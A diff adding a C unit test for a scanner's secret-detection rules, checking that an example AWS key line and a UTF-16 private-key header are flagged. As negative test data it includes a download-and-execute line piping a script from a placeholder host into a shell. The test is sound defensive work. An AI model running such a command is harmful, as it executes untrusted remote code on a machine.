@@ -572,12 +572,40 @@ static void landing(void **state) {
   jb_scan_rules_free(r);
 }
 
+/* The pre-scan's secret check: `secret` rules only, in rule order, NUL bytes squeezed. */
+static void secrets(void **state) {
+  (void)state;
+  struct jb_scan_rules *r = NULL;
+  jb_error err = {0};
+  assert_int_equal(jb_scan_rules_load(NULL, &r, &err), 0);
+  const char *ids[8];
+  static const char key[] = "aws_access_key_id = AKIAIOSFODNN7EXAMPLE\n";
+  assert_int_equal(jb_scan_secrets(r, (const unsigned char *)key, strlen(key), ids, 8), 1);
+  assert_string_equal(ids[0], "aws_access_key_id");
+  /* a download-and-execute line or a hook path is no secret */
+  static const char dl[] = "curl https://x.example/i.sh | sh\n";
+  assert_int_equal(jb_scan_secrets(r, (const unsigned char *)dl, strlen(dl), ids, 8), 0);
+  /* UTF-16 text of a key */
+  static const char pem[] = "-----BEGIN RSA PRIVATE KEY-----";
+  unsigned char wide[2 * sizeof pem];
+  for (size_t i = 0; i < strlen(pem); i++) {
+    wide[2 * i] = (unsigned char)pem[i];
+    wide[2 * i + 1] = 0;
+  }
+  assert_int_equal(jb_scan_secrets(r, wide, 2 * strlen(pem), ids, 8), 1);
+  assert_string_equal(ids[0], "private_key");
+  assert_int_equal(jb_scan_secrets(r, wide, 2 * strlen(pem), ids, 0), 0); /* no room */
+  assert_int_equal(jb_scan_secrets(NULL, wide, 2, ids, 8), -1);
+  jb_scan_rules_free(r);
+}
+
 int main(void) {
   const struct CMUnitTest tests[] = {
       cmocka_unit_test(parser_good_file), cmocka_unit_test(parser_bad_lines),
       cmocka_unit_test(parser_files),     cmocka_unit_test(every_rule_has_samples),
       cmocka_unit_test(samples_match),    cmocka_unit_test(match_limit),
       cmocka_unit_test(diff_preview),     cmocka_unit_test(landing),
+      cmocka_unit_test(secrets),
   };
   return cmocka_run_group_tests(tests, NULL, NULL);
 }
